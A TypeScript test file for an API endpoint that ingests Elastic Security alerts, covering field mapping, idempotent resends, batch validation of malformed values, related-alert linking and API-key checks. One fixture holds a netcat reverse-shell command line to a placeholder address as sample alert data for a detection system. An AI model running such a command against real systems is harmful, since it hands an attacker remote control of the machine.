import assert from 'node:assert/strict'
import { gzipSync } from 'node:zlib'
import { after, before, describe, it } from 'node:test'
import { count, eq } from 'drizzle-orm'
import { alerts } from '../../../../../../src/db/schema/index.js'
import { alpineInventory, buildEnrolApp, enrolled, machine, type EnrolApp } from '../../enrolment-fixtures.js'

/** An alert as Elastic Security writes it in .alerts-security.alerts-default (flattened keys). */
function elasticAlert(id: string, overrides: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    '@timestamp': '2026-11-20T08:15:42.118Z',
    'kibana.alert.uuid': id,
    'kibana.alert.rule.name': 'Potential SSH Brute Force Detected',
    'kibana.alert.rule.rule_id': '1c27fa22-7727-4dd3-81c0-de6da5555feb',
    'kibana.alert.rule.type': 'threshold',
    'kibana.alert.rule.description':
      'Identifies multiple consecutive login failures targeting a user account from the same source address within a short time interval.',
    'kibana.alert.rule.note': '## Triage and analysis\n\nCheck whether any login from the source succeeded.',
    'kibana.alert.rule.threat': [
      {
        framework: 'MITRE ATT&CK',
        tactic: { id: 'TA0006', name: 'Credential Access', reference: 'https://attack.mitre.org/tactics/TA0006/' },
        technique: [
          {
            id: 'T1110',
            name: 'Brute Force',
            reference: 'https://attack.mitre.org/techniques/T1110/',
            subtechnique: [
              { id: 'T1110.001', name: 'Password Guessing', reference: 'https://attack.mitre.org/techniques/T1110/001/' }
            ]
          }
        ]
      }
    ],
    'kibana.alert.severity': 'medium',
    'kibana.alert.risk_score': 47,
    'kibana.alert.workflow_status': 'open',
    'kibana.alert.reason':
      'authentication event with source 203.0.113.77 by root on edge-gw-01 created medium alert Potential SSH Brute Force Detected.',
    'kibana.alert.original_time': '2026-11-20T08:14:59.000Z',
    'kibana.alert.original_event.category': ['authentication'],
    'kibana.alert.original_event.outcome': 'failure',
    'kibana.space_ids': ['default'],
    'host.name': 'edge-gw-01',
    'host.ip': ['10.20.0.5'],
    'source.ip': '203.0.113.77',
    'user.name': 'root',
    'process.name': 'sshd',
    ...overrides
  }
}

/** The same alert the way the fields are nested in a search hit's _source. */
function nestedAlert(id: string) {
  return {
    _index: '.internal.alerts-security.alerts-default-000001',
    _id: id,
    _source: {
      '@timestamp': '2026-11-21T10:00:00.000Z',
      kibana: {
        alert: {
          uuid: id,
          severity: 'critical',
          reason: 'process event with process nc, by www-data on edge-gw-01 created critical alert Reverse Shell via Netcat.',
          rule: {
            name: 'Reverse Shell via Netcat',
            rule_id: 'b0638186-4d3d-4ae1-9ce9-e5d2b1f10ec6',
            threat: [
              {
                framework: 'MITRE ATT&CK',
                tactic: { id: 'TA0002' },
                technique: [{ id: 'T1059', subtechnique: [{ id: 'T1059.004' }] }]
              }
            ]
          },
          group: { id: 'grp-7f3a' }
        }
      },
      host: { name: 'EDGE-GW-01' },
      process: { name: 'nc', command_line: 'nc -e /bin/sh 198.51.100.23 4444', pid: 4242 },
      destination: { ip: '198.51.100.23', port: 4444 }
    }
  }
}

describe('alert ingest: POST /api/v1/tenants/{tenant}/alerts/ingest/', () => {
  let t: EnrolApp
  let key: string
  let otherKey: string
  let deviceUid: string
  const url = () => `/api/v1/tenants/${t.demoTenant}/alerts/ingest/`
  const ingest = (body: unknown, apiKey = key, headers: Record<string, string> = {}) =>
    t.app.inject({
      method: 'POST',
      url: url(),
      headers: { 'x-api-key': apiKey, ...headers },
      ...(Buffer.isBuffer(body) || typeof body === 'string' ? { body } : { payload: body as Record<string, unknown> })
    })
  const alertCount = async () =>
    (await t.app.db.select({ n: count() }).from(alerts).where(eq(alerts.tenantUid, t.demoTenant)))[0]!.n
  const alertByElasticId = async (id: string) => {
    const [row] = await t.app.db.select({ uid: alerts.uid }).from(alerts).where(eq(alerts.elasticAlertId, id))
    assert.ok(row, id)
    return (await t.get(`/api/v1/tenants/${t.demoTenant}/alerts/${row.uid}/`)).json()
  }

  before(async () => {
    t = await buildEnrolApp()
    key = (await t.send('POST', `/api/v1/tenants/${t.demoTenant}/api-keys/`, { name: 'elastic connector' })).json().key
    otherKey = (await t.send('POST', `/api/v1/tenants/${t.otherTenant}/api-keys/`, { name: 'other' }, t.other)).json().key
    const { token } = await t.token()
    const device = await enrolled(t, token, machine(500))
    await t.report(device.uid, device.credential, alpineInventory())
    deviceUid = device.uid
  })
  after(async () => {
    await t.close()
  })

  it('stores one flattened Elastic alert with its rule, severity, MITRE ids, reason, event data and device', async () => {
    const response = await ingest(elasticAlert('a1f3c0de-0001'))
    assert.equal(response.statusCode, 200, response.body)
    assert.deepEqual(response.json(), { received: 1, created: 1, duplicates: 0, rejected: [] })
    const alert = await alertByElasticId('a1f3c0de-0001')
    assert.equal(alert.name, 'Potential SSH Brute Force Detected')
    assert.equal(alert.priority, 'Medium')
    assert.equal(alert.status, 'OPEN')
    assert.deepEqual(alert.mitre_ids, ['T1110', 'T1110.001'])
    assert.equal(alert.elastic_alert_created_at, '2026-11-20T08:15:42.118Z')
    assert.equal(alert.elastic_rule_id, '1c27fa22-7727-4dd3-81c0-de6da5555feb')
    assert.equal(alert.elastic_rule_name, 'Potential SSH Brute Force Detected')
    assert.match(alert.summary, /^authentication event with source 203\.0\.113\.77/)
    assert.match(alert.description, /consecutive login failures/)
    assert.match(alert.recommendation, /Triage and analysis/)
    assert.equal(alert.indicator, '203.0.113.77')
    assert.equal(alert.model, 'threshold')
    assert.equal(alert.device, deviceUid, 'linked through host.name')
    assert.equal(alert.device_hostname, 'edge-gw-01')
    assert.equal(alert.event_data['source.ip'], '203.0.113.77')
    assert.deepEqual(alert.event_data['event.category'], ['authentication'], 'original event fields kept as event.*')
    assert.ok(!Object.keys(alert.event_data).some((k) => k.startsWith('kibana.')), 'rule metadata stays out of event_data')
  })

  it('reads nested documents and search hits (_source) the same way; host names match case-insensitively', async () => {
    const response = await ingest(nestedAlert('b2e4d1ef-0002'))
    assert.equal(response.json().created, 1, response.body)
    const alert = await alertByElasticId('b2e4d1ef-0002')
    assert.equal(alert.name, 'Reverse Shell via Netcat')
    assert.equal(alert.priority, 'Critical')
    assert.deepEqual(alert.mitre_ids, ['T1059', 'T1059.004'])
    assert.equal(alert.elastic_index, '.internal.alerts-security.alerts-default-000001')
    assert.equal(alert.device, deviceUid)
    assert.equal(alert.event_data['process.command_line'], 'nc -e /bin/sh 198.51.100.23 4444')
    assert.equal(alert.indicator, '198.51.100.23')
  })

  it('is idempotent on the alert id: a resend creates nothing and keeps the status set in the console', async () => {
    const doc = elasticAlert('c3f5e2a0-0003')
    assert.equal((await ingest(doc)).json().created, 1)
    const alert = await alertByElasticId('c3f5e2a0-0003')
    assert.equal(
      (await t.send('PATCH', `/api/v1/tenants/${t.demoTenant}/alerts/${alert.uid}/`, { status: 'CLOSED' })).statusCode,
      200
    )
    const before = await alertCount()
    const again = await ingest({ ...doc, 'kibana.alert.severity': 'critical' })
    assert.deepEqual(again.json(), { received: 1, created: 0, duplicates: 1, rejected: [] })
    assert.equal(await alertCount(), before)
    const kept = await alertByElasticId('c3f5e2a0-0003')
    assert.equal(kept.status, 'CLOSED')
    assert.equal(kept.priority, 'Medium')
  })

  it('a batch stores the good alerts and lists the bad ones by index', async () => {
    const { token } = await t.token(t.other)
    const foreign = await enrolled(t, token, machine(501))
    const before = await alertCount()
    const response = await ingest({
      alerts: [
        elasticAlert('d4a6f3b1-0004'),
        elasticAlert('d4a6f3b1-0005', { 'kibana.alert.rule.name': undefined }),
        elasticAlert('d4a6f3b1-0006', { 'kibana.alert.severity': 'urgent' }),
        elasticAlert('d4a6f3b1-0004'),
        elasticAlert('d4a6f3b1-0007', { device: foreign.uid, 'host.name': undefined }),
        elasticAlert('d4a6f3b1-0008', { '@timestamp': 'yesterday', 'kibana.alert.original_time': undefined }),
        'not an object',
        elasticAlert('d4a6f3b1-0009', { 'kibana.alert.reason': 42 }),
        elasticAlert('d4a6f3b1-0010', {
          device: deviceUid,
          'host.name': 'unknown-host',
          'kibana.alert.workflow_status': 'closed',
          'kibana.alert.severity': undefined,
          'kibana.alert.risk_score': 80
        })
      ]
    })
    assert.equal(response.statusCode, 200, response.body)
    const answer = response.json()
    assert.equal(answer.received, 9)
    assert.equal(answer.created, 2)
    assert.equal(answer.duplicates, 1)
    assert.deepEqual(
      answer.rejected.map((r: { index: number }) => r.index),
      [1, 2, 4, 5, 6, 7]
    )
    assert.match(answer.rejected[0].detail, /kibana\.alert\.rule\.name is required/)
    assert.match(answer.rejected[1].detail, /severity must be low, medium, high or critical/)
    assert.match(answer.rejected[2].detail, /not a device of this tenant/)
    assert.match(answer.rejected[3].detail, /@timestamp must be an ISO 8601 date-time/)
    assert.match(answer.rejected[4].detail, /must be a JSON object/)
    assert.match(answer.rejected[5].detail, /kibana\.alert\.reason must be a string/)
    assert.equal(await alertCount(), before + 2)
    const explicit = await alertByElasticId('d4a6f3b1-0010')
    assert.equal(explicit.device, deviceUid, 'an explicit device uid wins over host.name')
    assert.equal(explicit.status, 'CLOSED')
    assert.equal(explicit.priority, 'Critical', 'risk score 80 is in the critical band')
  })

  it('values PostgreSQL refuses are rejected per document, before the database sees them; the rest are stored and a resend is idempotent', async () => {
    const before = await alertCount()
    const good = (n: number) => JSON.stringify(elasticAlert(`pg-good-${n}`))
    const bad = (n: number, extra: string) => JSON.stringify(elasticAlert(`pg-bad-${n}`)).replace(/}$/, `,${extra}}`)
    const documents = [
      good(1),
      bad(1, '"message":"lone \\ud800 escape"'), // a lone surrogate: jsonb refuses it
      JSON.stringify(elasticAlert('pg-bad-2', { '@timestamp': '+275760-09-13T00:00:00.000Z' })), // JavaScript's last date; PostgreSQL cannot read it
      JSON.stringify(elasticAlert('pg-bad-3', { '@timestamp': -62198755200001, 'kibana.alert.original_time': undefined })), // before year 0001
      bad(4, '"process.args":["a\\u0000b"]'), // NUL in event data
      bad(5, '"k\\udc00":1'), // a lone surrogate in a key
      bad(6, `"deep":${'['.repeat(5000)}${']'.repeat(5000)}`), // 5,000 levels: a stack overflow before
      bad(7, '"source.ip":"198.51.100.1","source.ip":"203.0.113.9"'), // ASVS 5.0 1.5.3: duplicate key
      JSON.stringify(elasticAlert('pg-bad-8', { '@timestamp': '1' })), // Date.parse would read 2001-01-01
      JSON.stringify(elasticAlert('pg-good-2', { '@timestamp': '2026-11-20 08:15:42' })), // no offset: UTC, as Elasticsearch reads it
      good(3)
    ]
    const body = `{"alerts":[${documents.join(',')}]}`
    const response = await ingest(body, key, { 'content-type': 'application/json' })
    assert.equal(response.statusCode, 200, response.body.slice(0, 300))
    const answer = response.json()
    assert.deepEqual({ ...answer, rejected: undefined }, { received: 11, created: 3, duplicates: 0, rejected: undefined })
    assert.deepEqual(
      answer.rejected.map((r: { index: number }) => r.index),
      [1, 2, 3, 4, 5, 6, 7, 8]
    )
    const details = answer.rejected.map((r: { detail: string }) => r.detail)
    assert.match(details[0], /^message: Must not contain unpaired UTF-16 surrogates/)
    assert.match(details[1], /^@timestamp must be an ISO 8601 date-time or epoch milliseconds, from year 0001 to 9999/)
    assert.match(details[2], /^@timestamp must be/)
    assert.match(details[3], /^process\.args\.0: Must not contain NUL characters/)
    assert.match(details[4], /^k\udc00: Key: Must not contain unpaired UTF-16 surrogates/)
    assert.match(details[5], /^deep(\.0)+: Nested more than 32 levels deep\.$/)
    assert.equal(details[6], 'source.ip: Duplicate key.')
    assert.match(details[7], /^@timestamp must be/)
    assert.equal(await alertCount(), before + 3)
    assert.equal((await alertByElasticId('pg-good-2')).elastic_alert_created_at, '2026-11-20T08:15:42.000Z')

    const again = await ingest(body, key, { 'content-type': 'application/json' })
    assert.equal(again.statusCode, 200)
    assert.deepEqual(
      again.json(),
      { ...answer, created: 0, duplicates: 3 },
      'a resend stores nothing twice and rejects the same documents'
    )
    assert.equal(await alertCount(), before + 3)
  })

  it('a single document with a refused value, 5,000 levels of nesting or a duplicate key is a 400, not a 500', async () => {
    const before = await alertCount()
    for (const body of [
      JSON.stringify(elasticAlert('single-1')).replace(/}$/, `,"deep":${'['.repeat(5000)}${']'.repeat(5000)}}`),
      JSON.stringify(elasticAlert('single-2', { '@timestamp': '+275760-09-13T00:00:00.000Z' })),
      JSON.stringify(elasticAlert('single-3')).replace(/}$/, ',"x":"\\ud800"}'),
      JSON.stringify(elasticAlert('single-4')).replace(/}$/, ',"kibana.alert.workflow_status":"closed"}')
    ]) {
      const response = await ingest(body, key, { 'content-type': 'application/json' })
      assert.equal(response.statusCode, 400, response.body.slice(0, 200))
      assert.equal(typeof response.json().detail, 'string')
    }
    // A duplicate outside the documents (two "alerts") is the body's error.
    const twice = await ingest(`{"alerts":[${JSON.stringify(elasticAlert('single-5'))}],"alerts":[]}`, key, {
      'content-type': 'application/json'
    })
    assert.equal(twice.statusCode, 400)
    assert.deepEqual(twice.json(), { detail: 'Invalid request body.', errors: { alerts: 'Duplicate key.' } })
    assert.equal(await alertCount(), before)
  })

  it('links related alerts: explicit ids, and alerts sharing kibana.alert.group.id across requests', async () => {
    await ingest(nestedAlert('e5b7a4c2-0011'))
    const second = nestedAlert('e5b7a4c2-0012')
    second._source.kibana.alert.rule.name = 'Netcat Network Activity'
    await ingest(second)
    const first = await alertByElasticId('e5b7a4c2-0011')
    const later = await alertByElasticId('e5b7a4c2-0012')
    // Both share group grp-7f3a with b2e4d1ef-0002 from the earlier test.
    assert.deepEqual(later.associated_alert_ids.map((a: { elastic_alert_id: string }) => a.elastic_alert_id).sort(), [
      'b2e4d1ef-0002',
      'e5b7a4c2-0011'
    ])
    assert.ok(
      first.associated_alert_ids.some(
        (a: { elastic_alert_id: string; elastic_rule_name: string; link: string }) =>
          a.elastic_alert_id === 'e5b7a4c2-0012' && a.elastic_rule_name === 'Netcat Network Activity' && a.link === later.uid
      ),
      'the earlier alert learns about the later one'
    )

    await ingest(
      elasticAlert('f6c8b5d3-0013', {
        related: ['a1f3c0de-0001', { elastic_alert_id: 'not-here-yet', elastic_rule_name: 'Some Rule' }]
      })
    )
    const linked = await alertByElasticId('f6c8b5d3-0013')
    assert.deepEqual(
      linked.associated_alert_ids.map((a: { elastic_alert_id: string; elastic_rule_name: string; link: string | null }) => [
        a.elastic_alert_id,
        a.elastic_rule_name,
        a.link !== null
      ]),
      [
        ['a1f3c0de-0001', 'Potential SSH Brute Force Detected', true],
        ['not-here-yet', 'Some Rule', false]
      ]
    )
  })

  it('refuses a body that is not an alert or a batch, with a 400 that changes nothing', async () => {
    const before = await alertCount()
    const cases: unknown[] = [
      elasticAlert('1a2b', { 'kibana.alert.uuid': undefined }),
      { alerts: [] },
      { alerts: 'many' },
      { alerts: [elasticAlert('1a2c')], extra: true },
      { alerts: Array.from({ length: 1001 }, (_, i) => elasticAlert(`bulk-${i}`)) },
      [elasticAlert('1a2d')],
      elasticAlert('1a2e', { 'kibana.alert.rule.threat': 'T1110' })
    ]
    for (const body of cases) {
      const response = await ingest(body)
      assert.equal(response.statusCode, 400, response.body.slice(0, 200))
      assert.equal(typeof response.json().detail, 'string')
    }
    const malformed = await ingest('{"kibana.alert.uuid": ', key, { 'content-type': 'application/json' })
    assert.equal(malformed.statusCode, 400)
    assert.equal(await alertCount(), before)
  })

  it('takes 1,000 alerts in one gzip request', async () => {
    const body = gzipSync(JSON.stringify({ alerts: Array.from({ length: 1000 }, (_, i) => elasticAlert(`bulk-ok-${i}`)) }))
    const response = await ingest(body, key, { 'content-type': 'application/json', 'content-encoding': 'gzip' })
    assert.equal(response.statusCode, 200, response.body.slice(0, 300))
    assert.equal(response.json().created, 1000)
  })

  it("needs an API key of this tenant: none, revoked, a session or another tenant's key are refused", async () => {
    const before = await alertCount()
    assert.equal((await t.app.inject({ method: 'POST', url: url(), payload: elasticAlert('z1') })).statusCode, 401)
    assert.equal((await ingest(elasticAlert('z2'), 'ck_aaaaaaaaaaaa.notavalidsecretnotavalidsecret')).statusCode, 401)
    const session = await t.app.inject({ method: 'POST', url: url(), headers: t.demo.headers(), payload: elasticAlert('z3') })
    assert.equal(session.statusCode, 401, 'a signed-in user is not an ingest client')
    assert.equal(
      (await ingest(elasticAlert('z4'), otherKey)).statusCode,
      404,
      "another tenant's key answers like an unknown tenant"
    )
    const keys = (await t.get(`/api/v1/tenants/${t.demoTenant}/api-keys/`)).json().results
    const mine = keys.find((k: { name: string }) => k.name === 'elastic connector')
    await t.send('PATCH', `/api/v1/tenants/${t.demoTenant}/api-keys/${mine.uid}/`, { revoked: true })
    assert.equal((await ingest(elasticAlert('z5'))).statusCode, 401)
    assert.equal(await alertCount(), before)
  })

  it('the tenant summary counts ingested alerts', async () => {
    const fresh = (await t.send('POST', `/api/v1/tenants/${t.demoTenant}/api-keys/`, { name: 'summary' })).json().key
    const before = (await t.get(`/api/v1/tenants/${t.demoTenant}/summaries/latest/`)).json().counts.open_alerts
    await ingest({ alerts: [elasticAlert('s-1'), elasticAlert('s-2')] }, fresh)
    const after = (await t.get(`/api/v1/tenants/${t.demoTenant}/summaries/latest/`)).json().counts.open_alerts
    assert.equal(after, before + 2)
  })
})
